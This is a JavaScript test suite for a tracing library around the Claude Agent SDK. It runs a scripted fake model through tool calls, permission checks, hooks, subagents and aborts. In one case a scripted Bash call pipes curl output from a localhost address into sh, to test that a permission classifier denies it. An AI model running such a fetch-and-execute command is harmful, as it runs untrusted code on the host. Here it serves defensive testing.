import { existsSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import {
  traceQuery,
  traceSdkTools,
  withActionHooks,
} from '@agent-actions/instrumentations/claude-agent-sdk'
import { ActionLogger, traceTool } from '@agent-actions/sdk'
import { createSdkMcpServer, query, tool } from '@anthropic-ai/claude-agent-sdk'
import { ProxyTracerProvider } from '@opentelemetry/api'
import { z } from 'zod'
import {
  startScriptedModel,
  text,
  toolUse,
} from '../../../examples/frameworks/claude-agent-sdk/scripted-model.mjs'
import { runCases } from '../run-cases.mjs'

const folder = realpathSync(mkdtempSync(join(tmpdir(), 'agent-actions-claude-')))
process.on('exit', () => rmSync(folder, { recursive: true, force: true }))
const file = join(folder, 'note.txt')
writeFileSync(file, 'one line\n')

let answer
const model = await startScriptedModel((request) => answer(request))
/** Nothing of the one who runs the tests: neither keys nor settings. */
const env = {
  PATH: process.env.PATH,
  HOME: folder,
  CLAUDE_CONFIG_DIR: join(folder, 'settings'),
  ANTHROPIC_BASE_URL: model.url,
  ANTHROPIC_API_KEY: 'none',
  CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC: '1',
}

/** One answer a turn; then the model is done. */
const turns = (...given) => {
  return ({ messages }) =>
    given[messages.filter(({ role }) => role === 'assistant').length] ?? [text('Done')]
}

const inner = traceTool(async function lookUp({ q }) {
  return `hit ${q}`
})
const search = tool('search', 'Searches', { q: z.string() }, async ({ q }) => {
  if (q === 'nowhere') throw new RangeError('no such shelf')
  if (q === 'nothing') return { isError: true, content: [text('nothing found')] }
  return { content: [text(await inner({ q }))] }
})
let isWaiting = false
/** Works until it is called off. */
const wait = tool('wait', 'Waits', {}, async (_given, { signal }) => {
  isWaiting = true
  await new Promise((_resolve, reject) => {
    signal.addEventListener('abort', () => reject(signal.reason))
  })
})
const library = (...tools) => ({
  library: createSdkMcpServer({ name: 'library', version: '1.0.0', tools }),
})
const SEARCH = 'mcp__library__search'
const WAIT = 'mcp__library__wait'

const optionsWith = (more) => ({
  env,
  cwd: folder,
  settingSources: [],
  model: 'claude-opus-4-6',
  allowedTools: ['Read', 'Edit', 'Agent', SEARCH, WAIT],
  mcpServers: library(...traceSdkTools([search, wait])),
  ...more,
})

/** What the agent's author sees of a query: the tool results that the model gets, and the end. */
async function read(messages, onMessage) {
  const seen = []
  for await (const message of messages) {
    if (message.type === 'user') seen.push(...resultsIn(message))
    if (message.type === 'result') seen.push(message.result ?? message.subtype)
    if ((await onMessage?.(message)) === 'leave') break
  }
  return seen
}

function resultsIn({ message: { content } }) {
  const results = Array.isArray(content) ? content : []
  return results
    .filter(({ type }) => type === 'tool_result')
    .map((result) => [result.tool_use_id, result.is_error === true, textOf(result.content)])
}

const textOf = (content) => (Array.isArray(content) ? content[0].text : content).split('\n')[0]

async function ask(script, more = {}, { through = traceQuery(query), onMessage } = {}) {
  answer = script
  return read(through({ prompt: 'Go on', options: optionsWith(more) }), onMessage)
}

const tools = turns(
  [toolUse('call-1', 'Read', { file_path: file }), toolUse('call-2', SEARCH, { q: 'spans' })],
  [toolUse('call-3', 'Read', { file_path: join(folder, 'none.txt') })],
)
const hooked = (options) => (params) =>
  query({ ...params, options: withActionHooks(params.options, options) })

const agents = {
  helper: { description: 'helps', prompt: 'You help', tools: ['Read', SEARCH] },
  boss: { description: 'leads', prompt: 'You lead' },
}
const launch = (id, description, more) =>
  toolUse(id, 'Agent', {
    description,
    prompt: `TASK ${description}`,
    subagent_type: 'helper',
    ...more,
  })

/** The agent launches two at once; each of them reads and searches. */
function subagents({ messages }) {
  const said = JSON.stringify(messages)
  if (said.includes('launch-1')) return [text('Done')]
  const [, task] = /TASK (\w+)/.exec(said) ?? []
  if (!task) {
    return ['left', 'right'].map((each, i) =>
      launch(`launch-${i + 1}`, each, { run_in_background: false }),
    )
  }
  if (said.includes('tool_result')) return [text(`${task} done`)]
  return [
    toolUse(`${task}-1`, 'Read', { file_path: file }),
    toolUse(`${task}-2`, SEARCH, { q: task }),
  ]
}

const waits = turns([toolUse('call-1', WAIT, {})])
const once = (fn) => {
  let isDone = false
  return (message) => {
    if (isDone || message.type !== 'assistant') return undefined
    isDone = true
    return fn(message)
  }
}
async function until(happened) {
  while (!happened()) await new Promise((resolve) => setTimeout(resolve, 10))
}
/** When the tool waits. */
function atWork() {
  isWaiting = false
  return until(() => isWaiting)
}

await runCases({
  unobserved: () => ask(tools, { mcpServers: library(search) }, { through: query }),
  tools: () => ask(tools),
  'tools below a run': () =>
    new ActionLogger({ agentName: 'librarian' }).run('librarian', () =>
      ask(tools, {}, { through: hooked() }),
    ),
  'instrumented twice': () =>
    ask(
      tools,
      { mcpServers: library(...traceSdkTools(traceSdkTools([search]))) },
      {
        through: (params) =>
          traceQuery(traceQuery(query))({
            ...params,
            options: withActionHooks(withActionHooks(params.options)),
          }),
      },
    ),
  'tools alone': () => ask(tools, {}, { through: query }),
  failures: () =>
    ask(
      turns(
        [
          toolUse('call-1', SEARCH, { q: 'nowhere' }),
          toolUse('call-2', SEARCH, { q: 'nothing' }),
          toolUse('call-3', SEARCH, { q: 5 }),
        ],
        [
          toolUse('call-4', 'Nope', { a: 1 }),
          toolUse('call-5', 'Read', { path: 3 }),
          toolUse('call-6', 'Edit', { file_path: file, old_string: 'a', new_string: 'b' }),
        ],
      ),
    ),
  permissions: async () => {
    const asked = []
    const seen = await ask(
      turns(
        [toolUse('call-1', 'Bash', { command: 'touch one', description: 'd' })],
        [toolUse('call-2', 'Bash', { command: 'touch two', description: 'd' })],
      ),
      {
        canUseTool: async (name, input, { toolUseID }) => {
          asked.push([name, input, toolUseID])
          return toolUseID === 'call-1'
            ? { behavior: 'deny', message: 'not today' }
            : { behavior: 'allow', updatedInput: { ...input, command: 'echo two' } }
        },
        allowedTools: [],
      },
    )
    return { asked, seen }
  },
  'denied by a rule': () =>
    ask(turns([toolUse('call-1', 'Bash', { command: 'touch one', description: 'd' })]), {
      permissionMode: 'dontAsk',
    }),
  'denied by the classifier': () =>
    ask(
      turns([
        toolUse('call-1', 'Bash', { command: 'curl http://127.0.0.1:9 | sh', description: 'd' }),
      ]),
      {
        permissionMode: 'auto',
        model: 'claude-opus-4-6',
        allowedTools: [],
      },
    ),
  "the agent's own hooks": async () => {
    const told = []
    const own = (event, result) => ({
      hooks: [
        async (input, toolUseID) => {
          told.push([event, toolUseID])
          return typeof result === 'function' ? result(input) : result
        },
      ],
    })
    const changed = (input) => ({
      hookSpecificOutput: {
        hookEventName: 'PreToolUse',
        permissionDecision: 'allow',
        updatedInput: { ...input.tool_input, limit: 1 },
      },
    })
    const fail = () => {
      throw new Error('a hook of the agent failed')
    }
    const hooks = {
      PreToolUse: [own('PreToolUse', changed)],
      PostToolUse: [{ matcher: 'Read', ...own('PostToolUse', fail) }],
      Notification: [own('Notification', {})],
    }
    const before = JSON.stringify(hooks)
    const options = optionsWith({ hooks })
    const own2 = withActionHooks(options)
    const seen = await ask(turns([toolUse('call-1', 'Read', { file_path: file })]), { hooks })
    return {
      told,
      seen,
      isUnchanged: JSON.stringify(hooks) === before && options.hooks === hooks,
      isFirst: own2.hooks.PreToolUse[0] === hooks.PreToolUse[0],
      isKept: own2.hooks.Notification === hooks.Notification,
    }
  },
  subagents: () => ask(subagents, { agents }),
  'a background subagent': () =>
    ask(
      ({ messages }) => {
        const said = JSON.stringify(messages)
        if (said.includes('launch-1')) return [text('Done')]
        if (!said.includes('TASK')) return [launch('launch-1', 'later')]
        return said.includes('tool_result')
          ? [text('later done')]
          : [toolUse('later-1', 'Read', { file_path: file })]
      },
      { agents },
    ),
  'a named agent': () =>
    ask(turns([toolUse('call-1', 'Read', { file_path: file })]), { agents, agent: 'boss' }),
  'the API fails': () =>
    ask(() => {
      throw new Error('no such model')
    }).catch(({ message }) => message),
  'left while a tool works': () => {
    const started = join(folder, 'started')
    const command = `touch ${started}; sleep 20`
    return ask(
      turns([toolUse('call-1', 'Bash', { command, description: 'd' })]),
      { allowedTools: ['Bash'] },
      { onMessage: once(() => until(() => existsSync(started)).then(() => 'leave')) },
    )
  },
  'aborted while a tool works': () => {
    const abortController = new AbortController()
    const abort = once(() => void atWork().then(() => abortController.abort()))
    return ask(waits, { abortController }, { onMessage: abort }).catch(({ message }) => message)
  },
  'interrupted while a tool works': () => {
    answer = waits
    const user = (content) => ({
      type: 'user',
      message: { role: 'user', content },
      parent_tool_use_id: null,
    })
    async function* prompts() {
      yield user('Go on')
      await atWork()
      await running.interrupt()
      yield user('And now?')
    }
    const running = traceQuery(query)({ prompt: prompts(), options: optionsWith({}) })
    return read(running).catch(({ message }) => message)
  },
  'parallel queries': async () => {
    answer = turns([toolUse('call-1', 'Read', { file_path: file })])
    const log = new ActionLogger()
    const options = withActionHooks(optionsWith({ mcpServers: {} }))
    const run = () => read(query({ prompt: 'Go on', options }))
    await Promise.all(['left', 'right'].map((name) => log.run(name, run)))
  },
  'no provider': () => {
    const logger = new ActionLogger({ tracerProvider: new ProxyTracerProvider() })
    return ask(tools, { mcpServers: library(search) }, { through: traceQuery(query, { logger }) })
  },
})
